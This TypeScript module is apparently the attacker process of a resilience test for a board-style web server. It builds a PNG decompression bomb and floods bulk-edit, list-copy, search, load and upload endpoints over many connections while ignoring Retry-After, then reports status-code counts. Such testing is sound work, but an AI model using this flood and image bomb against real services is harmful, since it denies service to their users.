import { Agent } from 'node:http';
import { setPriority } from 'node:os';
import sharp from 'sharp';
import { send } from './others.ts';

/** The arguments of the attacker's process. */
export interface Attack {
  readonly url: string;
  readonly token: string;
  readonly boardId: number;
  readonly cardIds: readonly number[];
  readonly listIds: readonly number[];
  readonly seconds: number;
}

/** How often which status came, by kind of call. */
export type AttackReport = Record<string, Record<string, number>>;

const CONNECTIONS = { duplicate: 4, load: 6, search: 4, copyList: 2, move: 4, loop: 6, upload: 2 };
type Kind = keyof typeof CONNECTIONS;

/** A small file that unpacks to very many pixels. */
const bomb = () =>
  sharp({ create: { width: 7700, height: 7700, channels: 3, background: '#fff' } })
    .png({ compressionLevel: 9, palette: true })
    .toBuffer();

function callOf(kind: Exclude<Kind, 'upload'>, attack: Attack, round: number) {
  const { boardId, cardIds, listIds } = attack;
  const listId = listIds[round % listIds.length];
  switch (kind) {
    case 'duplicate':
      return {
        method: 'POST',
        path: '/card/bulk',
        body: { boardId, cardIds, action: { do: 'duplicate' } },
      };
    case 'load':
      return { method: 'GET', path: `/list/getAllList/${boardId}/0/allCards` };
    case 'search':
      return {
        method: 'GET',
        path: `/search/find/all/${round % 2 === 0 ? 'bababa' : 'zorzorzro'}`,
      };
    case 'copyList':
      return { method: 'POST', path: '/list/copyList', body: { boardId, listId } };
    case 'move':
      return {
        method: 'POST',
        path: '/card/bulk',
        body: { boardId, cardIds, action: { do: 'move', listId } },
      };
    case 'loop':
      return { method: 'POST', path: '/auth/getUser', body: {} };
  }
}

async function upload({ url, token, boardId, cardIds }: Attack, image: Buffer): Promise<number> {
  const form = new FormData();
  form.append('boardId', String(boardId));
  form.append('cardId', String(cardIds[0]));
  form.append('file', new Blob([new Uint8Array(image)]), 'image.png');
  const headers = { authorization: `Bearer ${token}` };
  const response = await fetch(`${url}/card/upload`, { method: 'POST', headers, body: form });
  await response.arrayBuffer();
  return response.status;
}

/** Does the worst that one member can, on several connections, and ignores every Retry-After. */
async function run(attack: Attack, image: Buffer): Promise<AttackReport> {
  const agent = new Agent({ keepAlive: true });
  const until = performance.now() + attack.seconds * 1000;
  const report: AttackReport = {};
  async function repeat(kind: Kind): Promise<void> {
    const counts = (report[kind] ??= {});
    for (let round = 0; performance.now() < until; round += 1) {
      const status = await (
        kind === 'upload' ? upload(attack, image) : send(agent, attack, callOf(kind, attack, round))
      ).catch(() => 0);
      counts[status] = (counts[status] ?? 0) + 1;
    }
  }
  const kinds = Object.entries(CONNECTIONS) as [Kind, number][];
  await Promise.all(
    kinds.flatMap(([kind, connections]) => Array.from({ length: connections }, () => repeat(kind))),
  );
  agent.destroy();
  return report;
}

// An attacker has their own machine: here, theirs gives way to the server.
setPriority(19);
const image = await bomb();
process.once('message', (attack: Attack) => {
  void run(attack, image).then((report) => process.send?.(report, () => process.exit(0)));
});
process.send?.('ready');
